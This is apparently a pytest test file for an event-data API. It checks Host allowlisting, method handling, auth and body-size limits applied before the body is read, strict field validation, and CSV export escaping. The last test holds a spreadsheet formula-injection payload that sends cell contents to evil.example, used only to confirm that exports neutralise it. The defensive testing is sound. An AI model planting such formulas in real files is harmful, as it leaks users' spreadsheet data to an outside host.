"""What a request meets before its body is read (issue 18): Host, methods, the token, the size;
and the strict types of every write."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import time
from datetime import date, timedelta
from pathlib import Path

import pytest

from eventwire.api import ApiSettings
from eventwire.api.guard import default_allowed_hosts, host_of
from tests.api.conftest import AUTH, TOKEN, client_for

ROOT = Path(__file__).resolve().parents[2]


class CountingBody:
    """A request body streamed in chunks, counting how many the server pulled."""

    def __init__(self, chunks: int, size: int = 1024) -> None:
        self.chunks, self.size, self.pulled = chunks, size, 0

    def __iter__(self):
        for _ in range(self.chunks):
            self.pulled += 1
            yield b"x" * self.size


# -- Host ---------------------------------------------------------------------------------------


def test_a_foreign_host_is_refused(db):
    client = client_for(ApiSettings(db=db, token=TOKEN))
    answer = client.get("/api/events", headers={"Host": "rebound.example:8000"})
    assert answer.status_code == 400
    assert answer.json()["error"]["code"] == "bad_host"
    for host in ("localhost:8000", "127.0.0.1", "[::1]:8000"):
        assert client.get("/api/health", headers={"Host": host}).status_code == 200, host


def test_allowed_hosts_are_configurable(db):
    client = client_for(ApiSettings(db=db, token=TOKEN, allowed_hosts=("events.example.org", "*.lan")))
    assert client.get("/api/health", headers={"Host": "events.example.org"}).status_code == 200
    assert client.get("/api/health", headers={"Host": "box.lan:8000"}).status_code == 200
    assert client.get("/api/health", headers={"Host": "localhost"}).status_code == 400
    anyone = client_for(ApiSettings(db=db, token=TOKEN, allowed_hosts=("*",)))
    assert anyone.get("/api/health", headers={"Host": "whatever.example"}).status_code == 200


def test_default_allowed_hosts_are_localhost_and_the_bind_address():
    assert default_allowed_hosts("10.1.2.3") == {"localhost", "127.0.0.1", "::1", "10.1.2.3"}
    assert "0.0.0.0" not in default_allowed_hosts("0.0.0.0")
    assert {host_of("a.example:80"), host_of("[::1]:8000"), host_of("::1"), host_of("B.example")} == {
        "a.example",
        "::1",
        "b.example",
    }


# -- methods ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "allow"),
    [
        ("/api/events", "GET, HEAD, OPTIONS"),
        ("/api/events/ew-asad", "DELETE, GET, HEAD, OPTIONS, PATCH"),
        ("/api/documents", "OPTIONS, POST"),
        ("/", "GET, HEAD, OPTIONS"),
    ],
)
def test_options_and_405_name_every_allowed_method(client, path, allow):
    options = client.options(path)
    assert options.status_code == 204 and options.headers["allow"] == allow
    refused = client.put(path, headers=AUTH)
    assert refused.status_code == 405 and refused.headers["allow"] == allow
    assert refused.json()["error"]["code"] == "method_not_allowed"


def test_head_answers_as_get_without_a_body(client):
    answer = client.head("/api/events")
    assert answer.status_code == 200 and answer.content == b""


# -- the token and the size, before the body ----------------------------------------------------


@pytest.mark.parametrize("headers", [{}, {"Authorization": "Bearer wrong"}])
def test_an_unauthenticated_write_is_refused_before_its_body_is_read(client, headers):
    body = CountingBody(chunks=64)
    answer = client.post("/api/documents", headers={**headers, "Content-Type": "application/json"}, content=body)
    assert answer.status_code == 401
    assert body.pulled == 0


def test_writes_without_a_configured_token_are_forbidden_before_the_body(db):
    body = CountingBody(chunks=8)
    answer = client_for(ApiSettings(db=db)).patch("/api/events/ew-asad", content=body)
    assert answer.status_code == 403 and body.pulled == 0


def test_a_declared_body_over_the_limit_is_refused_before_it_is_read(db):
    client = client_for(ApiSettings(db=db, token=TOKEN, max_body_bytes=4096))
    body = CountingBody(chunks=8)
    headers = {**AUTH, "Content-Type": "application/json", "Content-Length": str(8 * 1024)}
    answer = client.post("/api/documents", headers=headers, content=body)
    assert answer.status_code == 413 and body.pulled == 0
    assert answer.json()["error"]["code"] == "too_large"


def test_a_streamed_body_over_the_limit_is_refused(db):
    client = client_for(ApiSettings(db=db, token=TOKEN, max_body_bytes=4096))
    answer = client.post(
        "/api/documents", headers={**AUTH, "Content-Type": "application/json"}, content=CountingBody(8)
    )
    assert answer.status_code == 413
    small = client.post("/api/documents", headers=AUTH, json={"content": "short"})
    assert small.status_code == 200  # under the limit: read (and skipped as too short)


def test_body_limit_from_the_environment(monkeypatch):
    monkeypatch.setenv("EVENTWIRE_MAX_BODY_BYTES", "12345")
    monkeypatch.setenv("EVENTWIRE_ALLOWED_HOSTS", "a.example, b.example")
    settings = ApiSettings.from_env()
    assert settings.max_body_bytes == 12345 and settings.allowed_hosts == ("a.example", "b.example")


def _rss_kib(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise AssertionError("no VmRSS")


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="reads the server's RSS from /proc")
def test_an_unauthenticated_100_mb_post_to_a_real_server_costs_no_memory(tmp_path):
    port = _free_port()
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    command = [sys.executable, "-m", "eventwire.cli", "serve", "--db", str(tmp_path / "s.sqlite"), "--token", TOKEN]
    server = subprocess.Popen([*command, "--port", str(port)], env=env, stderr=subprocess.DEVNULL)
    try:
        for _ in range(200):
            try:
                socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
                break
            except OSError:
                time.sleep(0.1)
        before = _rss_kib(server.pid)
        status = _post_100_mb(port)
        grown_mib = (_rss_kib(server.pid) - before) / 1024
    finally:
        server.terminate()
        server.wait(timeout=10)
    assert status.startswith(b"HTTP/1.1 401"), status
    assert grown_mib < 20, f"server RSS grew by {grown_mib:.0f} MiB"


def _post_100_mb(port: int) -> bytes:
    """Send a POST declaring 100 MB and stream it until the server answers; return the status line."""
    size = 100 * 1024 * 1024
    with socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
        conn.sendall(
            b"POST /api/documents HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
            + f"Content-Length: {size}\r\n\r\n".encode()
        )
        conn.settimeout(0.05)
        chunk, sent, answer = b"x" * (1 << 20), 0, b""
        while sent < size and not answer:
            try:
                conn.sendall(chunk)
                sent += len(chunk)
            except OSError:
                break
            try:
                answer = conn.recv(4096)
            except TimeoutError:
                pass
        conn.settimeout(10)
        answer = answer or conn.recv(4096)
    return answer.split(b"\r\n", 1)[0]


# -- strict, ranged writes ----------------------------------------------------------------------


IN_TWO_DAYS = "in two days"  # a placeholder the test replaces by the date when it runs


def _patch(client, **changes):
    return client.patch("/api/events/ew-asad", headers=AUTH, json={"who": "a", "reason": "b", "changes": changes})


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"event_date": "2999-01-01"}, "changes.event_date"),
        ({"event_date": IN_TWO_DAYS}, "changes.event_date"),
        ({"event_date": "1899-12-31"}, "changes.event_date"),
        ({"event_date": 0}, "changes.event_date"),
        ({"disputed": "yes"}, "changes.disputed"),
        ({"disputed": 1}, "changes.disputed"),
        ({"fatalities": -1}, "changes.fatalities"),
        ({"fatalities": 100_001}, "changes.fatalities"),
        ({"fatalities": "3"}, "changes.fatalities"),
        ({"injuries": 2.5}, "changes.injuries"),
        ({"latitude": 90.5}, "changes.latitude"),
        ({"longitude": -181}, "changes.longitude"),
        ({"longitude": "10"}, "changes.longitude"),
        ({"time_precision": 4}, "changes.time_precision"),
    ],
)
def test_patch_refuses_out_of_range_and_loosely_typed_values(client, changes, field):
    if changes.get("event_date") == IN_TWO_DAYS:
        # the day after tomorrow, read when the test runs (not when it is collected: a run that
        # passes midnight would turn it into tomorrow, which is allowed)
        changes = {"event_date": (date.today() + timedelta(days=2)).isoformat()}
    answer = _patch(client, **changes)
    assert answer.status_code == 422, answer.text
    message = answer.json()["error"]["message"]
    assert message.startswith(f"{field}: "), message


def test_patch_accepts_tomorrow_and_plain_values(client):
    tomorrow = (date.today() + timedelta(days=1)).isoformat()
    answer = _patch(client, event_date=tomorrow, disputed=True, fatalities=100_000, latitude=33, longitude=-8.5)
    assert answer.status_code == 200, answer.text
    assert answer.json()["event_date"] == tomorrow and answer.json()["longitude"] == -8.5


@pytest.mark.parametrize("query", ["to=0", "from=1", "to=20231018", "from=yesterday"])
def test_a_date_filter_must_be_a_date(client, query):
    answer = client.get(f"/api/events?{query}")
    assert answer.status_code == 422
    assert answer.json()["error"]["message"].startswith(f"query.{query.split('=')[0]}: expected a date")


def test_an_ingest_reference_date_is_plausible(client):
    answer = client.post("/api/documents", headers=AUTH, json={"content": "some text", "published": "2999-01-01"})
    assert answer.status_code == 422 and answer.json()["error"]["message"].startswith("published: ")


def test_openapi_security_matches_the_policy(db):
    public = client_for(ApiSettings(db=db, token=TOKEN)).get("/openapi.json").json()["paths"]
    assert "security" not in public["/api/events"]["get"]
    assert "security" not in public["/api/events/{event_id}"]["get"]
    assert public["/api/events/{event_id}"]["patch"]["security"] == [{"HTTPBearer": []}]
    assert public["/api/documents"]["post"]["security"] == [{"HTTPBearer": []}]
    private = client_for(ApiSettings(db=db, token=TOKEN, private=True)).get("/openapi.json").json()["paths"]
    assert private["/api/events"]["get"]["security"] == [{"HTTPBearer": []}]


def test_an_exported_hyperlink_formula_is_inert(client):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'
    assert _patch(client, notes=formula, actor2="@SUM(A1:A2)").status_code == 200
    exported = client.get("/api/export?format=acled-csv").text
    assert "'=HYPERLINK(" in exported and "'@SUM(A1:A2)" in exported
    assert ',"=HYPERLINK' not in exported and ",=HYPERLINK" not in exported
